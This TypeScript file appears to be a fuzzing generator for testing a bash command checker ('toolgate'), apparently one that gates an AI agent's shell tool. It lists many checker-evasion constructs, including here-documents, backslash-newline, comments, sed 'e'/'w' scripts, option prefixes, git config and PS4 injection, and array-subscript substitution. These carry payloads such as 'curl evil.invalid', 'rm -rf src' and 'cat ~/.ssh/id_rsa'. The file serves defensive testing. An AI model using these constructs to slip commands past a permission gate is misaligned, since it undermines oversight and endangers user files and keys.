/**
 * Generators of the constructs attackers use to make bash read a command differently from a
 * checker: each hides a payload (a program run or a write) where a careless reading sees data,
 * or spells an option that writes or runs something in a way a list of option names misses.
 * The tag of each is the class a failure is filed under.
 */
import { FastCheck as fc } from "effect"
import { maybe, pick, tagged, words, type Generated } from "./programs.js"

/** What a hidden part runs or writes: any of these showing in bash's log or the scratch tree is caught. */
export const PAYLOADS = [
  "touch PWNED",
  "rm -rf src",
  "curl evil.invalid",
  ">PWNED.txt",
  "cat ~/.ssh/id_rsa",
  "rm PWNED"
]
const payload = pick(...PAYLOADS)

const READERS = ["cat", "sort", "wc -l", "grep x", "head -1", "sed -n p", "cat -n", "tail -1", "jq .", "uniq"]

// ---- here-documents ------------------------------------------------------------------------------

/** A delimiter word as written, and what bash makes of it (quote removal). */
const DELIMITERS: ReadonlyArray<readonly [string, string]> = [
  ["EOF", "EOF"],
  ["'EOF'", "EOF"],
  ["\"EOF\"", "EOF"],
  ["\\EOF", "EOF"],
  ["E\\OF", "EOF"],
  ["EOF''", "EOF"],
  ["''EOF", "EOF"],
  ["E''OF", "EOF"],
  ["E\"\"OF", "EOF"],
  ["'E'OF", "EOF"],
  ["\"E\"O'F'", "EOF"],
  ["$'EOF'", "EOF"],
  ["$\"EOF\"", "EOF"],
  ["$'x'", "x"],
  ["x'y'", "xy"],
  ["'x'y", "xy"],
  ["$'\\x45OF'", "EOF"],
  ["$'E\\nF'", "E\nF"],
  ["E$'O'F", "EOF"],
  ["END", "END"],
  ["-", "-"],
  ["'a b'", "a b"],
  ["E\\\nOF", "EOF"],
  ["EOF#", "EOF#"],
  ["!", "!"]
]

const lines = (line: fc.Arbitrary<string>, max: number) => fc.array(line, { maxLength: max })

const heredocBodyLine = fc.oneof(
  pick(
    "alpha",
    "hello world",
    "$HOME",
    "\\$HOME",
    "$(touch PWNED)",
    "`touch PWNED`",
    "${x:-$(touch PWNED)}",
    "$((1+2))",
    "a \\",
    "\\",
    "'quoted'",
    "\"dq\"",
    "# not a comment",
    "\ttabbed",
    ""
  ),
  payload.map((p) => `; ${p}`)
)

/** Lines that might end the document: the unquoted value, the spelling, near misses. */
const candidates = (spelled: string, value: string): ReadonlyArray<string> => [
  value,
  spelled,
  `${value} `,
  ` ${value}`,
  `\t${value}`,
  `${value}\r`,
  `${value}\\`,
  value.slice(0, -1) + "\\\n" + value.slice(-1),
  `'${value}'`,
  `"${value}"`,
  `${value};`,
  `${value} # c`
]

const heredocOne = fc
  .tuple(
    pick(...READERS),
    pick("<<", "<<-", "<< ", "<<- "),
    pick(...DELIMITERS),
    lines(heredocBodyLine, 2),
    fc.nat(),
    payload,
    pick("final-spelled", "final-value"),
    maybe(pick("&& cat README.md", "| wc -l", "; echo done", "> /dev/null"))
  )
  .map(([reader, op, [spelled, value], body, k, p, final, after]) => {
    const options = candidates(spelled, value)
    const candidate = options[k % options.length]!
    const end = final === "final-spelled" ? spelled : value
    const lines = [...body, candidate, p, end]
    return `${words(reader, `${op}${spelled}`, after)}\n${lines.join("\n")}`
  })

const heredocTwo = fc
  .tuple(
    pick(...DELIMITERS),
    pick(...DELIMITERS),
    pick(" <<", " && cat <<", "; cat <<", " | cat <<"),
    lines(heredocBodyLine, 1),
    lines(heredocBodyLine, 1),
    payload
  )
  .map(([[s1, v1], [s2, v2], join, b1, b2, p]) =>
    `cat <<${s1}${join}${s2}\n${[...b1, v1, p, ...b2, v2, s1, s2].join("\n")}`
  )

const heredocInSubstitution = fc
  .tuple(
    pick(...DELIMITERS),
    lines(heredocBodyLine, 2),
    payload,
    pick("echo \"$(", "echo $(", "x=$(", "cat <(", "echo `")
  )
  .map(([[spelled, value], body, p, open]) => {
    const close = open.endsWith("`") ? "`" : open.startsWith("echo \"") ? ")\"" : ")"
    return `${open}cat <<${spelled}\n${[...body, value, p, spelled].join("\n")}\n${close}`
  })

const heredocSafe = fc
  .tuple(
    pick(...READERS),
    pick(...DELIMITERS),
    lines(pick("alpha", "beta", "hello world", "$HOME", "'q'", "\"dq\"", "a\\", "x\\\ny"), 3)
  )
  .map(([reader, [spelled, value], body]) => `${reader} <<${spelled}\n${[...body, value].join("\n")}`)

export const heredocAttack: fc.Arbitrary<Generated> = tagged(
  "here-document",
  fc.oneof({ weight: 4, arbitrary: heredocOne }, heredocTwo, heredocInSubstitution, {
    weight: 2,
    arbitrary: heredocSafe
  })
)

// ---- backslash-newline and comments --------------------------------------------------------------

const CONTINUED = [
  (p: string) => `echo a\\\n#; ${p}`,
  (p: string) => `cat README.md \\\n# ; ${p}`,
  (p: string) => `cat README.md #\\\n${p}`,
  (p: string) => `cat README.md ;#\\\n${p}`,
  (p: string) => `echo \\\\\n${p}`,
  (p: string) => `echo a \\\\\n${p}`,
  (p: string) => `echo x\\\\\\\n#; ${p}`,
  (p: string) => `cat 'a\\\n'; # ${p}`,
  (p: string) => `cat "READ\\\nME.md" # \\\n${p}`,
  (p: string) => `ca\\\nt README.md # ${p}`,
  (p: string) => `echo a\\\n\\\n#; ${p}`,
  (p: string) => `echo '\\\n'#; ${p}`,
  (p: string) => `echo $'\\\n'#; ${p}`,
  (p: string) => `echo "\\\n"#; ${p}`,
  (p: string) => `grep -e x\\\n#; ${p} README.md`,
  (p: string) => `echo a # \\\n${p}`,
  (p: string) => `cat README.md \\\n\n${p}`
]
const backslashNewline = fc.tuple(fc.nat(CONTINUED.length - 1), payload).map(([i, p]) => CONTINUED[i]!(p))
const splitWords = pick(
  "ca\\\nt README.md",
  "cat READ\\\nME.md",
  "cat README.md\\\n",
  "git sta\\\ntus",
  "git \\\nstatus",
  "ls \\\n-la",
  "echo a\\\nb",
  "grep alp\\\nha notes.txt",
  "sed -n 1\\\np README.md",
  "head -\\\nn 1 README.md",
  "npm te\\\nst",
  "npm \\\ntest"
)
export const backslashNewlineAttack: fc.Arbitrary<Generated> = tagged(
  "backslash-newline",
  fc.oneof(backslashNewline, splitWords)
)

const COMMENTED = [
  (p: string) => `cat README.md # ; ${p}`,
  (p: string) => `cat README.md #; ${p}`,
  (p: string) => `cat README.md#; ${p}`,
  (p: string) => `echo x #$(${p})`,
  (p: string) => `echo x # \`${p}\``,
  (p: string) => `echo "$(echo a # )"; ${p}`,
  (p: string) => `echo $(# c\n${p})`,
  (p: string) => `echo \`# c\`; ${p}`,
  (p: string) => `{ cat README.md; } # ${p}`,
  (p: string) => `echo a#b; # ${p}`,
  (p: string) => `echo ${"$"}{#HOME} # ${p}`,
  (p: string) => `echo $# # ${p}`,
  (p: string) => `cat README.md\t# ${p}`,
  (p: string) => `cat README.md \r# ${p}`,
  (p: string) => `cat README.md #\r${p}`,
  (p: string) => `echo '#' ; # ${p}`,
  (p: string) => `echo x\\#y # ${p}`,
  (p: string) => `echo a;#\n${p}`,
  (p: string) => `cat README.md # x\n# ${p}`
]
export const commentAttack: fc.Arbitrary<Generated> = tagged(
  "comment",
  fc.tuple(fc.nat(COMMENTED.length - 1), payload).map(([i, p]) => COMMENTED[i]!(p))
)

// ---- sed scripts -----------------------------------------------------------------------------------

const SED_HIDDEN = [
  "e touch PWNED",
  "w PWNED.txt",
  "s/a/b/w PWNED.txt",
  "1e touch PWNED",
  "W PWNED.txt",
  "s/alpha/touch PWNED/e",
  "e",
  "r /etc/hostname",
  "$!w PWNED.txt",
  "s|a|b|w PWNED.txt"
]
const sedText = fc
  .tuple(
    pick("1", "", "$", "/alpha/", "1,2"),
    pick("a", "i", "c"),
    pick(" text", "\\\ntext", "\\text", "\\", " \\", "text"),
    pick("\\", "\\\\", "\\\\\\", "", "\\\\\\\\"),
    pick(...SED_HIDDEN)
  )
  .map(([addr, cmd, text, ending, hidden]) => `${addr}${cmd}${text}${ending}\n${hidden}`)
const sedSplit = pick(...SED_HIDDEN).map((h) => `-e '1a foo\\' -e '${h}'`)
const sedOther = pick(
  "s/a/b/e",
  "s/a/b\\\nw PWNED.txt/",
  "s/x/y/;w PWNED.txt",
  "1!G;h;$!d;w PWNED.txt",
  "/x/{p;e touch PWNED\n}",
  "y/a/b/;e touch PWNED",
  "0~3e touch PWNED",
  "1{\ne touch PWNED\n}",
  "s/a/b/w /dev/stdout",
  "# c\\\ne touch PWNED",
  "1b;e touch PWNED",
  "s/a/\\\n/;w PWNED.txt",
  "l 5;w PWNED.txt",
  "q5;e touch PWNED",
  "1 s/a/b/ ; w PWNED.txt"
)
const quoteSed = (script: string) => `'${script.replace(/'/g, `'\\''`)}'`
export const sedAttack: fc.Arbitrary<Generated> = tagged(
  "sed-script",
  fc.oneof(
    fc.tuple(
      maybe(pick("-n", "-s", "-E", "--posix", "-z", "--debug", "--sandbox")),
      fc.oneof(sedText, sedOther),
      pick("notes.txt", "README.md")
    ).map(([o, s, f]) => words("sed", o, quoteSed(s), f)),
    fc.tuple(sedSplit, pick("notes.txt", "README.md")).map(([s, f]) => words("sed -n", s, f)),
    fc.tuple(fc.oneof(sedText, sedOther), pick("notes.txt", "README.md")).map(([s, f]) =>
      words("sed", `-e ${quoteSed(s)}`, f)
    ),
    fc.tuple(fc.oneof(sedText, sedOther), pick("notes.txt")).map(([s, f]) =>
      words("sed", `--expression=${quoteSed(s)}`, f)
    )
  )
)

// ---- [ x > FILE ] --------------------------------------------------------------------------------

export const testRedirectAttack: fc.Arbitrary<Generated> = tagged(
  "test-redirect",
  pick(
    "[ x > PWNED.txt ]",
    "[ a \\> b ]",
    "test a > PWNED.txt",
    "[ \"$HOME\" > PWNED.txt ]",
    "[ x < README.md ]",
    "[ 1 -gt 0 ] > PWNED.txt",
    "[[ a > b ]]",
    "[[ a > PWNED.txt ]]",
    "[ a ] >PWNED.txt",
    "test x 2>PWNED.txt",
    "[ -f README.md ] && [ b > PWNED.txt ]",
    "[ a '>' b ]",
    "[ a \">\" PWNED.txt ]",
    "[ a >> PWNED.txt ]",
    "[ a >| PWNED.txt ]",
    "[ a 1> PWNED.txt ]",
    "[ a &> PWNED.txt ]",
    "test 2 -lt 3 >PWNED.txt",
    "[ x \\< y ] && echo lt",
    "! [ a > PWNED.txt ]"
  )
)

// ---- option spellings ------------------------------------------------------------------------------

/** Every prefix of a long option from `min` characters (after the dashes) to the whole name. */
const prefixes = (long: string, min: number): Array<string> => {
  const out: Array<string> = []
  for (let n = min; n <= long.length - 2; n++) out.push(long.slice(0, n + 2))
  return out
}

const valueSpellings = (names: ReadonlyArray<string>, value: string): Array<string> =>
  names.flatMap((n) => [`${n}=${value}`, `${n} ${value}`])

const OPTION_ATTACKS: ReadonlyArray<fc.Arbitrary<string>> = [
  fc.tuple(
    pick(
      ...valueSpellings(prefixes("--output", 1), "PWNED.txt"),
      "-o PWNED.txt",
      "-oPWNED.txt",
      "-ro PWNED.txt",
      "-uoPWNED.txt",
      "-o=PWNED.txt"
    ),
    pick("notes.txt", "README.md"),
    fc.boolean()
  ).map(([o, f, after]) => (after ? words("sort", f, o) : words("sort", o, f))),
  pick(...valueSpellings([...prefixes("--compress-program", 3)], "touch")).map((o) =>
    `seq 1 300000 | sort -S 64K ${o} > /dev/null`
  ),
  pick(...valueSpellings(prefixes("--temporary-directory", 3), "build"), "-T build").map((o) => `sort ${o} notes.txt`),
  pick(
    ...prefixes("--open-files-in-pager", 4).map((o) => `${o}=touch`),
    "-Otouch",
    "-O touch",
    "--open-files-in-pager touch"
  ).map((o) => `git grep ${o} alpha`),
  pick("git grep alpha --open-files-in-pager=touch", "git grep alpha -Otouch").map((c) => c),
  pick(...prefixes("--output", 4).map((o) => `${o}=PWNED.txt`), "--output PWNED.txt").map((o) => `git log -1 ${o}`),
  pick(
    "git diff --outpu=PWNED.txt",
    "git show --outpu=PWNED.txt",
    "git diff --ext-diff",
    "git log --ext-d -p -1",
    "git -c core.pager=touch log -1",
    "git --exec-path=. status",
    "git -C ../outside/repo status",
    "git --git-dir=../outside/repo/.git status",
    "git --work-tree=.. status"
  ),
  pick(...prefixes("--compile", 3)).chain((c) =>
    pick(...valueSpellings(prefixes("--magic-file", 5), "magic.txt"), "-m magic.txt").map((m) => `file ${c} ${m}`)
  ),
  pick(
    "file -C -m magic.txt",
    "file -Cm magic.txt",
    "file --magic-f=magic.txt README.md",
    "file -m magic.txt README.md",
    "file -f notes.txt"
  ),
  pick(
    ...prefixes("--in-place", 3),
    "-i",
    "-i.bak",
    "-ni",
    "-n -i",
    "-si",
    "-Ei",
    "-i -n",
    "--in-place=.bak",
    "-s --in-pl",
    "-Ei.bak"
  ).map((o) => `sed ${o} 's/alpha/ALPHA/' notes.txt`),
  pick(
    ...prefixes("--chdir", 2).map((o) => `env ${o}=src cat a.ts`),
    "env -C src cat a.ts",
    "env -Csrc cat a.ts",
    "env --chdir src cat a.ts",
    "env -iC src cat a.ts"
  ),
  pick(
    ...prefixes("--split-string", 3).map((o) => `env ${o}='touch PWNED'`),
    "env -S'touch PWNED'",
    "env -S 'cat README.md'",
    "env -vS'touch PWNED'"
  ),
  pick(
    "rg --pre=touch alpha",
    "rg --pre touch alpha",
    "rg --pre-glob '*' --pre touch alpha",
    "rg -z alpha",
    "rg --search-zip alpha",
    "rg alpha --pre=touch"
  ),
  pick(
    "uniq notes.txt PWNED.txt",
    "uniq -c notes.txt PWNED.txt",
    "uniq -- notes.txt PWNED.txt",
    "xxd README.md PWNED.txt",
    "xxd -r -p notes.txt PWNED.txt",
    "xxd -revert notes.txt"
  ),
  pick(
    "find . -fprint PWNED.txt",
    "find . -fls PWNED.txt",
    "find . -fprintf PWNED.txt %p",
    "find . -name x -o -exec touch PWNED ';'",
    "find . -'exec' touch PWNED \\;",
    "find . -ex\\ec touch {} +",
    "find . \"-exec\" touch PWNED \";\"",
    "find . -delete -name nothing",
    "find src -newer README.md -execdir touch PWNED \\;",
    "find . -ok touch PWNED \\;"
  ),
  pick(...valueSpellings(prefixes("--files0-from", 5), "notes.txt")).map((o) => `wc ${o}`),
  pick("date -s 2020-01-01", "date --set=2020-01-01", "date --se=2020-01-01", "date 0101", "date -f notes.txt"),
  pick(
    "tail -n 1 --pid=1 README.md",
    "head --lines=-1 README.md",
    "cat --show-nonprinting README.md",
    "ls --hyperlink=always",
    "ls --quoting-style=shell-escape"
  ),
  pick(
    "jq -n 'input' data.json",
    "jq --rawfile f README.md -n '$f'",
    "jq -f notes.txt data.json",
    "jq --from-file notes.txt data.json",
    "jq -L . 'import \"x\" as x; .' data.json"
  ),
  pick(
    "grep -r alpha --include=*.md .",
    "grep -f notes.txt README.md",
    "grep --fi=notes.txt README.md",
    "grep -d recurse alpha .",
    "grep --devices=read x README.md"
  ),
  pick(
    "stat --printf='%n\\n' README.md",
    "du --files0-from=notes.txt",
    "du --exclude-from=notes.txt .",
    "cut --output-delimiter=x -f1 notes.txt",
    "tree -o PWNED.txt"
  )
]
export const optionAttack: fc.Arbitrary<Generated> = tagged("option-spelling", fc.oneof(...OPTION_ATTACKS))

// ---- the shell's and toolgate's own variables --------------------------------------------------

const CWD_FILE = "__toolgate_cwd_file"
export const plumbingAttack: fc.Arbitrary<Generated> = tagged(
  "plumbing-variable",
  fc
    .tuple(
      pick(
        `${CWD_FILE}=PWNED.txt;`,
        `${CWD_FILE}=PWNED.txt`,
        `export ${CWD_FILE}=PWNED.txt;`,
        `declare ${CWD_FILE}=PWNED.txt;`,
        `typeset ${CWD_FILE}=PWNED.txt;`,
        `readonly ${CWD_FILE}=PWNED.txt;`,
        `read ${CWD_FILE} <<< PWNED.txt;`,
        `printf -v ${CWD_FILE} PWNED.txt;`,
        `mapfile -t ${CWD_FILE} <<< PWNED.txt;`,
        `for ${CWD_FILE} in PWNED.txt; do :; done;`,
        `${CWD_FILE}+=.x;`,
        `(( ${CWD_FILE}=1 ));`,
        `let ${CWD_FILE}=1;`,
        `: \${${CWD_FILE}:=x} ;`,
        `unset ${CWD_FILE};`,
        `${CWD_FILE}=~/PWNED.txt;`,
        `${CWD_FILE}=$HOME/PWNED.txt;`,
        "trap 'touch PWNED' EXIT;",
        "trap - EXIT;",
        "trap '' EXIT;",
        "IFS=:;",
        "IFS=x",
        "PATH=./bin:$PATH",
        "PATH=bin",
        "PATH=.:/usr/bin",
        "export PATH=.:$PATH;",
        "BASH_ENV=scripts/env.sh",
        "ENV=scripts/env.sh",
        "PS4='$(touch PWNED)'; set -x;",
        "SHELLOPTS=xtrace PS4='$(touch PWNED)'",
        "GIT_EXTERNAL_DIFF=touch",
        "GIT_PAGER=touch PAGER=touch",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch PWNED'",
        "GIT_CONFIG_PARAMETERS=\"'core.fsmonitor'='touch PWNED'\"",
        "GIT_DIR=../outside/repo/.git",
        "HOME=../outside",
        "LANG=C",
        "FOO=1",
        "TMPDIR=build",
        "x='$(touch PWNED)';",
        "cd ../outside/repo;",
        "cd ~;"
      ),
      pick(
        "cat README.md",
        "git status",
        "git diff",
        "ls",
        "bash -c 'cat README.md'",
        "sh -c 'cat README.md'",
        "echo ${x@P}",
        "pwd",
        "git log -1",
        "true",
        "cat ~/notes.txt",
        "npm test",
        "wc -l notes.txt"
      )
    )
    .map(([prefix, command]) => `${prefix} ${command}`)
)

// ---- redirections ----------------------------------------------------------------------------------

const REDIRECT_TARGETS = [
  "out.txt",
  "'out file.txt'",
  "o'u't.txt",
  "$'out.txt'",
  "\"out.txt\"",
  "out\\ file.txt",
  "./out.txt",
  "src/../out.txt",
  "build/out.txt",
  "src-link/o.txt",
  "link-out/o.txt",
  "dangling",
  ".git/x",
  ".claude/settings.json",
  "~/out.txt",
  "~+/out.txt",
  "*.md",
  "[R]EADME.md",
  "{a,b}.txt",
  "README.md",
  "/dev/null",
  "/dev/stderr",
  "/dev/fd/2",
  "-",
  "x#y",
  "ünï-out.txt"
]
const REDIRECT_FORMS = [
  ">",
  ">>",
  ">|",
  "&>",
  "&>>",
  ">&",
  "2>",
  "2>>",
  "1>",
  "3>",
  "3 >",
  "<>",
  "{fd}>",
  "2>&1 >",
  "> /dev/null 2>",
  "0<>",
  ">&2 >"
]
export const redirectCase: fc.Arbitrary<Generated> = fc
  .tuple(
    pick("echo x", "cat README.md", "ls", "git status", "printf 'x\\n'", "", ":", "grep alpha notes.txt", "npm test"),
    pick(...REDIRECT_FORMS),
    pick("", " "),
    pick(...REDIRECT_TARGETS),
    maybe(pick("2>&1", "< README.md", "<<< word", "0<&-", ">&-"))
  )
  .map(([command, op, space, target, extra]) => ({
    command: words(`${command} ${op}${space}${target}`.trim(), extra),
    tags: ["redirect", "writes", ...(command === "npm test" || command === "git status" ? ["rule:runner"] : [])]
  }))

// ---- braces, globs, tildes -------------------------------------------------------------------------

export const expansionCase: fc.Arbitrary<Generated> = tagged(
  "brace-glob-tilde",
  pick(
    "cat {README,notes}.md",
    "cat ~/notes.txt",
    "cat ~+/README.md",
    "cat ~-/README.md",
    "echo ~root",
    "cat ~/../proj/README.md",
    "echo a=~/x",
    "echo --x=~/y",
    "x=~/a; echo $x",
    "cat README.m?",
    "cat [R]EADME.md",
    "cat src/**",
    "ls {src,docs}",
    "echo {1..3}",
    "echo {a..c}",
    "cat README.md{,}",
    "echo {a,b}{c,d}",
    "cat {,}README.md",
    "echo \\{a,b\\}",
    "echo '{a,b}'",
    "cat ./{README.md,notes.txt}",
    "echo {, }",
    "echo {a}",
    "echo {}",
    "ls *",
    "ls .*",
    "cat *.{md,txt}",
    "echo ~",
    "echo ~/",
    "cat ~/.ssh/id_rsa",
    "ls ~",
    "cat link-home/.bashrc",
    "cat link-out/secret.txt",
    "ls -la ~/.ssh",
    "cd ~ && ls",
    "echo {README.md,$(touch PWNED)}",
    "echo {a,`touch PWNED`}",
    "cat {README.md,~/.ssh/id_rsa}",
    "echo ~'/x'",
    "echo \\~/x",
    "echo \"~/x\"",
    "cat ~+",
    "cat ~0/README.md",
    "echo ${HOME}/x",
    "cat \"$HOME\"/notes.txt"
  )
)

// ---- control structures and expansions ------------------------------------------------------------

export const structureCase: fc.Arbitrary<Generated> = tagged(
  "structure",
  pick(
    "for f in *.md; do cat \"$f\"; done",
    "for f in README.md notes.txt; do wc -l $f; done",
    "for ((i=0;i<2;i++)); do echo $i; done",
    "while read l; do echo \"$l\"; done < notes.txt",
    "while read -r l; do echo \"$l\"; done <<< \"a b\"",
    "until true; do echo x; done",
    "if [ -f README.md ]; then cat README.md; else echo no; fi",
    "if grep -q alpha notes.txt; then echo yes; fi",
    "case \"$HOME\" in /*) echo abs;; *) echo rel;; esac",
    "case x in x) cat README.md;; esac",
    "f() { cat README.md; }; f",
    "function g { echo hi; }; g",
    "( cd src && ls )",
    "{ cat README.md; echo; } | wc -l",
    "! grep -q nothing README.md",
    "time cat README.md",
    "coproc cat README.md",
    "select x in a; do break; done",
    "cat README.md | while read l; do echo \"$l\"; done",
    "[[ -f README.md && -d src ]] && echo ok",
    "(( 1 + 1 )) && echo two",
    "x=1; echo $x",
    "declare -a arr=(1 2); echo ${arr[0]}",
    "ls | while read f; do cat \"$f\"; done",
    "for f in $(ls); do echo $f; done",
    "for f in src/*; do [ -f \"$f\" ] && head -1 \"$f\"; done",
    "cat README.md &",
    "cat README.md & wait",
    "cat README.md |& wc -l",
    "cat README.md; cat notes.txt",
    "cat README.md\ncat notes.txt",
    "cat README.md || echo failed",
    "{ cat README.md; } 2>/dev/null",
    "(ls) | (wc -l)",
    "if true; then (cat README.md); fi",
    "for x in a; do for y in b; do echo $x$y; done; done",
    "while false; do :; done; echo end"
  )
)

export const substitutionCase: fc.Arbitrary<Generated> = tagged(
  "substitution",
  pick(
    "echo $(cat README.md)",
    "echo \"$(git status)\"",
    "echo `cat README.md`",
    "echo \"`ls`\"",
    "diff <(sort notes.txt) <(sort README.md)",
    "echo $((1+2))",
    "echo $[1+2]",
    "echo ${HOME:-x}",
    "echo ${x:-$(touch PWNED)}",
    "echo \"${x:-`touch PWNED`}\"",
    "echo ${x:=y}",
    "echo ${HOME/root/x}",
    "echo ${!HOME}",
    "echo $'\\x41'",
    "echo $\"msg\"",
    "x='a[$(touch PWNED)]'; echo $((x))",
    "x='a[$(touch PWNED)]'; [[ $x -eq 0 ]]",
    "x='a[$(touch PWNED)]'; echo ${y:x}",
    "echo ${a[$(touch PWNED)]}",
    "cat <(ls)",
    "echo x > >(cat)",
    "cat \"$(echo README.md)\"",
    "ls $(echo src)",
    "echo \"$(echo \"$(echo deep)\")\"",
    "echo $(<README.md)",
    "echo \"$(< notes.txt)\"",
    "a=$(cat README.md)",
    "echo ${#HOME}",
    "echo ${HOME@Q}",
    "x='$(touch PWNED)'; echo ${x@P}",
    "x='\\$(touch PWNED)'; echo ${x@E}",
    "echo $(( $(echo 1) + 1 ))",
    "echo ${x:-'$(touch PWNED)'}",
    "echo \"${x:-'$(touch PWNED)'}\"",
    "echo $'$(touch PWNED)'",
    "echo '$(touch PWNED)'",
    "echo \"\\$(touch PWNED)\"",
    "echo \\$(touch PWNED)",
    "echo $(echo ')'; touch PWNED)",
    "echo \"$(echo \"a)\" # )\"",
    "echo `echo \\`touch PWNED\\``",
    "echo ${x-`touch PWNED`}",
    "[[ -v a[$(touch PWNED)] ]]",
    "printf -v 'a[$(touch PWNED)]' x",
    "read 'a[$(touch PWNED)]' <<< x",
    "test -v 'a[$(touch PWNED)]'",
    "declare -n r='a[$(touch PWNED)]'; echo $r"
  )
)

export const nestedShellCase: fc.Arbitrary<Generated> = tagged(
  "nested-shell",
  pick(
    "bash -c 'cat README.md'",
    "sh -c \"cat README.md\"",
    "bash -c 'echo $0' x",
    "eval 'cat README.md'",
    "eval \"cat README.md; touch PWNED\"",
    "bash -c 'cat README.md' -- ; echo x",
    "bash -lc 'cat README.md'",
    "bash --norc -c 'cat README.md'",
    "bash -c \"$(echo touch PWNED)\"",
    ". scripts/env.sh",
    "source scripts/env.sh",
    "bash scripts/env.sh",
    "sh < scripts/env.sh",
    "bash <<< 'touch PWNED'",
    "eval $'cat README.md\\ntouch PWNED'",
    "bash -c $'cat README.md\\ntouch PWNED'",
    "eval 'cat README.md #' ; touch PWNED",
    "bash -c 'cat README.md' && bash -c 'echo ok'",
    "eval \"$(echo cat README.md)\"",
    "bash -c 'cat\\ README.md'",
    "bash -c \"cat README.md\\\n; touch PWNED\"",
    "command bash -c 'cat README.md'",
    "exec cat README.md",
    "exec bash -c 'touch PWNED'",
    "builtin echo x",
    "command -p cat README.md"
  )
)

export const wrapperCase: fc.Arbitrary<Generated> = tagged(
  "wrapper",
  fc
    .tuple(
      pick(
        "timeout 5",
        "timeout -s KILL 5",
        "timeout --kill-after=1 5",
        "timeout 5s",
        "nice",
        "nice -n 5",
        "nice -10",
        "nice --adjustment=5",
        "nice --adj=5",
        "env",
        "env -i",
        "env FOO=1",
        "env -u HOME",
        "env --unset=HOME",
        "env -",
        "command",
        "nohup",
        "stdbuf -oL",
        "stdbuf -i0 -oL",
        "time",
        "time -p",
        "xargs",
        "xargs -0",
        "xargs -n1",
        "xargs -I{}",
        "exec",
        "builtin"
      ),
      pick(
        "cat README.md",
        "git status",
        "ls src",
        "echo hi",
        "wc -l notes.txt",
        "npm test",
        "touch PWNED",
        "grep alpha notes.txt",
        "cat {}"
      )
    )
    .map(([w, c]) => (w.startsWith("xargs") ? `ls | ${w} ${c}` : `${w} ${c}`))
)

export const attackCases: ReadonlyArray<{ readonly weight: number; readonly arbitrary: fc.Arbitrary<Generated> }> = [
  { weight: 5, arbitrary: heredocAttack },
  { weight: 3, arbitrary: backslashNewlineAttack },
  { weight: 2, arbitrary: commentAttack },
  { weight: 3, arbitrary: sedAttack },
  { weight: 1, arbitrary: testRedirectAttack },
  { weight: 3, arbitrary: optionAttack },
  { weight: 3, arbitrary: plumbingAttack },
  { weight: 3, arbitrary: redirectCase },
  { weight: 2, arbitrary: expansionCase },
  { weight: 2, arbitrary: structureCase },
  { weight: 2, arbitrary: substitutionCase },
  { weight: 1, arbitrary: nestedShellCase },
  { weight: 2, arbitrary: wrapperCase }
]
